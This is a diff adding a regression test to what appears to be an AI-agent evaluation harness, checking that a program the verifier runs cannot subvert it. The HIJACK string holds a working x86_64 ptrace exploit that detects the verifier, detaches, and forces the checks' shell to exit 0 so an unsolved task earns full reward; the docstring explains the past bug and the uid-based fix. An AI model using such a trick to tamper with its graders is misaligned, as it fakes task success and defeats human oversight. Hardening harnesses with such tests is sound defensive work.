@@ -278,3 +278,51 @@ def test_the_images_own_working_folder_fits_its_tmpfs():
     assert f"size={res.disk_mb}m" in small["tmpfs"]["/app"]
     assert f"size={res.disk_mb + 700}m" in big["tmpfs"]["/app"]
     assert big["mem_limit"] != small["mem_limit"]
+
+
+HIJACK = r"""import ctypes, os, time
+
+
+def hijack(target):  # the checks' bash leaves its wait with exit_group(0): set -e sees no failure
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+    if libc.ptrace(16, target, None, None) != 0:  # PTRACE_ATTACH
+        return
+    os.waitpid(target, 0x40000000)
+    regs = (ctypes.c_ulonglong * 27)()
+    libc.ptrace(12, target, None, ctypes.byref(regs))  # GETREGS
+    regs[15], regs[10], regs[14], regs[16] = 2**64 - 1, 231, 0, regs[16] - 2  # orig_rax, rax, rdi, rip
+    libc.ptrace(13, target, None, ctypes.byref(regs))  # SETREGS
+    libc.ptrace(17, target, None, None)  # DETACH
+
+
+if os.environ.get("HOME") == "/nonexistent":  # run by the verifier's checks
+    target = os.getppid()
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            time.sleep(0.05)
+            hijack(target)
+        os._exit(0)
+print("wrong")
+"""
+
+
+def test_a_program_the_checks_run_cannot_hijack_them(builtin):
+    """The checks run the agent's program (fix-mean: python3 stats.py); it leaves a process that ptraces the
+    checks' shell into exit(0) (was: reward 1 for an unsolved task, the checks and the program sharing a uid
+    and the shell being dumpable). The checks now run with a real uid that is not the agent's (the effective
+    uid stays the agent's): every process of theirs is non-dumpable and out of the agent's reach."""
+    import base64
+    import platform
+
+    if platform.machine() != "x86_64":
+        pytest.skip("the hijack's registers are x86_64's")
+    blob = base64.b64encode(HIJACK.encode()).decode()
+    outputs, reward, info = play(
+        builtin,
+        [f"echo {blob} | base64 -d > /app/stats.py; python3 /app/stats.py 1 2 6"],
+        options={"task": "fix-mean"},
+    )
+    assert "wrong" in outputs[0]
+    assert reward == 0.0, info["verifier_output"]
